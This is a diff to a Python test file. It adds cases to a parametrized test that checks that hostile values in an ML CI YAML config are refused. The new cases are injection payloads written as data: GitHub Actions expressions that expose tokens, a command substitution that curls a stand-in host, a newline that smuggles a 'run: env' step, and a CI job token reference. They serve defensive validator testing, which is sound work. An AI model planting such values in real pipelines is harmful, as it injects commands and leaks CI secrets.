@@ -178,6 +178,14 @@ def test_a_hostile_model_name_in_dvc_yaml_is_refused(tmp_path: Path, name: str) 
     ("ci:\n  runs_on: ['${{ github.event.pull_request.title }}']\n", "ci.runs_on[0]"),
     ("ci:\n  python: \"3.11\\n\"\n", "ci.python"),
     ("ci:\n  dvc_remote_secrets: [github_token]\n", "ci.dvc_remote_secrets[0]"),
+    ("sweep:\n  params: {'a${{ github.token }}': [1]}\n  rank_by: x\n",
+     "sweep.params.a${{ github.token }}"),
+    ("sweep:\n  params: {train.C: ['$(curl https://evil.invalid)']}\n  rank_by: x\n",
+     "sweep.params.train.C[0]"),
+    ("sweep:\n  params: {train.C: [\"1\\n      - run: env\"]}\n  rank_by: x\n",
+     "sweep.params.train.C[0]"),
+    ("sweep:\n  params: {train.C: ['${CI_JOB_TOKEN}']}\n  rank_by: x\n",
+     "sweep.params.train.C[0]"),
 ])
 def test_a_hostile_mlci_yaml_value_is_refused(tmp_path: Path, setting: str, key: str) -> None:
     root = make_project(tmp_path / "proj", "default")
